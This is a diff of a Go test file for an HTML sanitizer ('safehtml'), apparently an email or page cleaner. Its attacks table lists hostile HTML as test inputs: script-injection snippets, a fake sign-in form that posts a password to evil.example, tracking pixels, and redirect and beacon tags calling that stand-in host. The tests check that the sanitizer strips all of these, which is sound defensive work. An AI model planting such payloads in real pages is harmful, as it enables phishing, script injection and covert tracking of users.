@@ -47,15 +47,15 @@ var attacks = map[string]string{
 	"meta refresh":         `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
 	"base":                 `<base href="https://evil.example/"><a href="x">x</a>`,
 	"form":                 `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
-	"link":                 `<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example">`,
+	"link":                 `<link rel="stylesheet" href="https://evil.example"><link rel=prefetch href="https://evil.example">`,
 	"iframe":               `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
 	"object":               `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">`,
 	"audio":                `<audio src="https://evil.example/x"></audio><video poster="https://evil.example/x"></video>`,
 	"tracking pixel":       `<img src="https://evil.example/p.gif?to=ada" width="1" height="1">`,
-	"image by srcset":      `<img srcset="https://evil.example/p.gif 1x"><picture><source srcset="https://evil.example/p"></picture>`,
+	"image by srcset":      `<img srcset="https://evil.example/p 1x"><picture><source srcset="https://e.example/p"></picture>`,
 	"image by protocol":    `<img src="//evil.example/p.gif">`,
 	"image without TLS":    `<img src="http://evil.example/p.gif">`,
-	"table background":     `<table background="https://evil.example/p.gif"><td background="https://evil.example/p.gif">x</table>`,
+	"table background":     `<table background="https://evil.example/p"><td background="https://evil.example/p">x</table>`,
 	"css link":             `<a style="color:red" href="https://evil.example" ping="https://evil.example/ping">x</a>`,
 	"end of the page":      `</body></html><script>alert(1)</script>`,
 	"comment":              `<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->`,
@@ -113,7 +113,8 @@ func requireHarmless(t require.TestingT, name, page string, images safehtml.Imag
 				}
 			case "style":
 				require.NotRegexp(t, `(?i)url|image|expression|import|position|\\|/\*`, a.Val, name)
-			case "srcset", "background", "poster", "ping", "action", "formaction", "srcdoc", "data", "http-equiv", "id", "class", "name":
+			case "srcset", "background", "poster", "ping", "action", "formaction", "srcdoc", "data",
+				"http-equiv", "id", "class", "name":
 				require.Fail(t, a.Key, "%s: %s", name, body(page))
 			}
 		}
@@ -124,16 +125,21 @@ func requireHarmless(t require.TestingT, name, page string, images safehtml.Imag
 func TestWhatIsHarmlessStays(t *testing.T) {
 	t.Parallel()
 	for in, want := range map[string]string{
-		`<p style="color: #333; text-align: center">Hi <b>you</b></p>`: `<p style="color: #333; text-align: center">Hi <b>you</b></p>`,
-		`<table width="100%"><tr><td colspan="2">x</td></tr></table>`:  `<table width="100%"><tr><td colspan="2">x</td></tr></table>`,
-		`<div dir="rtl">مرحبا</div>`:                                   `<div dir="rtl">مرحبا</div>`,
-		`<img src="data:image/png;base64,iVBORw0=" alt="Logo">`:        `<img src="data:image/png;base64,iVBORw0=" alt="Logo">`,
-		`<img src="https://shop.example/a.png" alt="A lamp">`:          `<img alt="A lamp">`,
+		`<img src="https://shop.example/a.png" alt="A lamp">`: `<img alt="A lamp">`,
 		`a < b && c > d`: `a &lt; b &amp;&amp; c &gt; d`,
-		`<a href="https://shop.example/?a=1">x</a>`: `<a href="https://shop.example/?a=1" rel="nofollow noreferrer noopener" target="_blank">x</a>`,
-		`<a href="mailto:ada@example.com">x</a>`:    `<a href="mailto:ada@example.com" rel="nofollow noreferrer">x</a>`,
+		`<a href="https://shop.example/?a=1">x</a>`: `<a href="https://shop.example/?a=1" ` +
+			`rel="nofollow noreferrer noopener" target="_blank">x</a>`,
+		`<a href="mailto:ada@example.com">x</a>`: `<a href="mailto:ada@example.com" rel="nofollow noreferrer">x</a>`,
 	} {
 		require.Equal(t, want, body(safehtml.Page(in, safehtml.OwnImages)))
+	}
+	for _, same := range []string{
+		`<p style="color: #333; text-align: center">Hi <b>you</b></p>`,
+		`<table width="100%"><tr><td colspan="2">x</td></tr></table>`,
+		`<div dir="rtl">مرحبا</div>`,
+		`<img src="data:image/png;base64,iVBORw0=" alt="Logo">`,
+	} {
+		require.Equal(t, same, body(safehtml.Page(same, safehtml.OwnImages)))
 	}
 	require.Equal(t, `<img src="https://shop.example/a.png">`,
 		body(safehtml.Page(`<img src="https://shop.example/a.png">`, safehtml.AllImages)))
